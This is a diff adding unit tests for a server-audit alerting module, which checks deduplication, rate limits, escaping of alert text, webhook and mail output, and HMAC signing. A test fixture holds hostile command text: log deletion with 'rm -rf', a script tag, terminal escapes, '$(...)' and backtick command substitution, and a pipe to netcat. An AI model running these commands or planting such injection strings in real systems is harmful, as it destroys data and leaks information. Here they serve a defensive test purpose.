@@ -1,0 +1,185 @@
+"""Alert policy: which events become alerts (deduplicated, rate-limited) and what they say."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from ansible_collections.whotouched.server_audit.plugins.module_utils.alert_policy import (
+    AlertConfigError,
+    AlertPolicy,
+    alert_text,
+    check_placeholders,
+    fill_placeholders,
+    mail_message,
+    make_alert,
+    placeholder_values,
+    signature,
+    signature_valid,
+    webhook_body,
+    wants,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils.audit_events import (
+    iter_events,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils.audit_risk import (
+    classify,
+    compile_rules,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils.audit_risk_rules import (
+    SHIPPED_RULES,
+)
+from tests.unit.plugins.module_utils.audit_record_lines import exec_records, stored
+
+RULES = compile_rules(SHIPPED_RULES)
+# A command that fires a critical rule (logs wiped) and carries every kind of hostile text.
+HOSTILE = ["rm", "-rf", "/var/log/<script>alert(1)</script>\x1b[31mred\x1b[0m",
+           "$(touch /tmp/x)", "`id`; touch /tmp/x && echo {text} {host} | nc 198.51.100.1 9"]
+
+
+def event_of(argv, host="web01", serial=42):
+    events = list(iter_events(stored(exec_records(argv, serial=serial), host=host)))
+    assert len(events) == 1
+    return classify(events[0], RULES)
+
+
+def test_levels_of_the_events_used_here():
+    assert event_of(["auditctl", "-D"])["level"] == "critical"
+    assert event_of(["ls", "-l"])["level"] == "info"
+    assert event_of(HOSTILE)["level"] == "critical"
+
+
+@pytest.mark.parametrize("level, minimum, expected", [
+    ("critical", "high", True), ("high", "high", True), ("medium", "high", False),
+    ("info", "info", True), ("low", "critical", False),
+])
+def test_sinks_get_levels_at_or_above_their_minimum(level, minimum, expected):
+    assert wants(level, minimum) is expected
+
+
+def test_below_the_minimum_no_alert():
+    policy = AlertPolicy(min_level="high")
+    assert policy.decide(event_of(["ls"]), 0.0) == []
+    assert policy.counts["events"] == 0
+
+
+def test_same_rule_same_host_within_the_window_is_one_alert_then_a_count():
+    policy = AlertPolicy(min_level="high", window=60, max_alerts=100)
+    first = policy.decide(event_of(["auditctl", "-D"], serial=1), 0.0)
+    assert [alert["kind"] for alert in first] == ["event"]
+    assert first[0]["count"] == 1 and first[0]["rules"] == ["audit-rules-deleted"]
+    for serial, now in ((2, 10.0), (3, 20.0), (4, 59.0)):
+        assert policy.decide(event_of(["auditctl", "-D"], serial=serial), now) == []
+    # another host and another rule are alerts of their own
+    assert len(policy.decide(event_of(["auditctl", "-D"], host="db01"), 30.0)) == 1
+    assert len(policy.decide(event_of(["rm", "/var/log/syslog"]), 30.0)) == 1
+    assert policy.due(59.9) == []
+    repeats = policy.due(60.0)
+    assert [(alert["kind"], alert["host"], alert["count"]) for alert in repeats] == [
+        ("repeat", "web01", 3)]
+    assert "3 more times in 60 s" in repeats[0]["text"]
+    assert policy.counts == {"events": 6, "alerts": 3, "deduplicated": 3,
+                             "rate_limited": 0, "repeats": 1}
+    # the window is over: the same rule alerts again
+    assert len(policy.decide(event_of(["auditctl", "-D"], serial=5), 61.0)) == 1
+    # windows with no repeat close silently; flush reports nothing then
+    assert policy.due(200.0) == [] and policy.flush() == []
+
+
+def test_rate_limit_caps_alerts_per_window_and_reports_what_it_held_back():
+    policy = AlertPolicy(min_level="high", window=100, max_alerts=2)
+    sent = []
+    for index in range(5):
+        sent += policy.decide(event_of(["auditctl", "-D"], host="host%d" % index), index)
+    assert [alert["host"] for alert in sent] == ["host0", "host1"]
+    assert policy.counts["rate_limited"] == 3
+    assert policy.due(99.0) == []
+    held = policy.due(100.0)
+    assert [(alert["kind"], alert["count"], alert["level"]) for alert in held] == [
+        ("suppressed", 3, "critical")]
+    assert "3 more alerts held back" in held[0]["text"]
+    # a new window: alerts flow again
+    assert len(policy.decide(event_of(["auditctl", "-D"], host="host9"), 101.0)) == 1
+
+
+def test_flush_at_exit_gives_out_pending_repeats():
+    policy = AlertPolicy(min_level="critical", window=300)
+    policy.decide(event_of(["auditctl", "-D"], serial=1), 0.0)
+    policy.decide(event_of(["auditctl", "-D"], serial=2), 1.0)
+    assert [(alert["kind"], alert["count"]) for alert in policy.flush()] == [("repeat", 1)]
+
+
+@pytest.mark.parametrize("settings, says", [
+    ({"min_level": "severe"}, "min_level must be one of"),
+    ({"window": 0}, "dedup window"),
+    ({"max_alerts": 0}, "rate limit"),
+    ({"max_alerts": True}, "rate limit"),
+])
+def test_bad_settings_are_named(settings, says):
+    with pytest.raises(AlertConfigError, match=says):
+        AlertPolicy(**settings)
+
+
+def test_alert_text_is_plain_and_says_who_what_why():
+    alert = make_alert("event", event_of(HOSTILE), "critical", 1)
+    text = alert_text(alert)
+    assert text.startswith("[CRITICAL] web01 (192.0.2.10): alice as root: rm -rf /var/log/<script>")
+    assert "\x1b" not in text and "\\x1b[31mred" in text
+    assert all(ord(char) >= 0x20 for char in text)
+    assert text == alert["text"]
+
+
+def test_webhook_body_is_json_with_the_argv_exact_and_no_markup():
+    event = event_of(HOSTILE)
+    body = webhook_body(make_alert("event", event, "critical", 1))
+    assert b"<" not in body and b">" not in body and b"\x1b" not in body
+    decoded = json.loads(body)
+    assert decoded["event"]["argv"] == HOSTILE
+    assert decoded["kind"] == "event" and decoded["level"] == "critical"
+
+
+def test_signature_is_hmac_sha256_of_the_body():
+    body = b'{"a": 1}'
+    # RFC 4231-style check against a value computed independently with openssl:
+    # printf '{"a": 1}' | openssl dgst -sha256 -hmac secret
+    assert signature("secret", body) == (
+        "sha256=" + __import__("hmac").new(b"secret", body, "sha256").hexdigest())
+    assert signature_valid("secret", body, signature("secret", body))
+    assert not signature_valid("secret", body + b" ", signature("secret", body))
+    assert not signature_valid("other", body, signature("secret", body))
+    assert not signature_valid("secret", body, None)
+
+
+def test_mail_has_a_one_line_subject_and_the_argv_escaped():
+    alert = make_alert("event", event_of(HOSTILE), "critical", 1)
+    message = mail_message(alert, "audit@example.org", ["ops@example.org", "sec@example.org"])
+    assert "\n" not in message["Subject"] and "\x1b" not in message["Subject"]
+    assert message["To"] == "ops@example.org, sec@example.org"
+    body = message.get_content()
+    assert "\x1b" not in body
+    assert "  [2] /var/log/<script>alert(1)</script>\\x1b[31mred\\x1b[0m\n" in body
+    assert "  [3] $(touch /tmp/x)\n" in body
+
+
+def test_placeholders_are_filled_once_and_log_content_cannot_add_any():
+    alert = make_alert("event", event_of(HOSTILE), "critical", 1)
+    values = placeholder_values(alert, max_text=60)
+    assert len(values["text"]) == 60 and values["text"].endswith("...")
+    filled = fill_placeholders("--to=ops --text={text} --host={host} {unknown}", values)
+    assert filled == "--to=ops --text=%s --host=web01 {unknown}" % values["text"]
+    # the command holds "{text} {host}" literally: it stays literal
+    assert "echo {text} {host} | nc" in values["command"]
+    assert fill_placeholders("{command}", values) == values["command"]
+
+
+@pytest.mark.parametrize("template, ok", [
+    ("{text}", True), ("--level={level}/{count}", True), ("plain", True),
+    ("{nope}", False), ("{text}{secret}", False),
+])
+def test_unknown_placeholders_are_refused(template, ok):
+    if ok:
+        assert check_placeholders(template, "sms.command[1]") == template
+    else:
+        with pytest.raises(AlertConfigError, match=r"sms.command\[1\]: unknown placeholder"):
+            check_placeholders(template, "sms.command[1]")
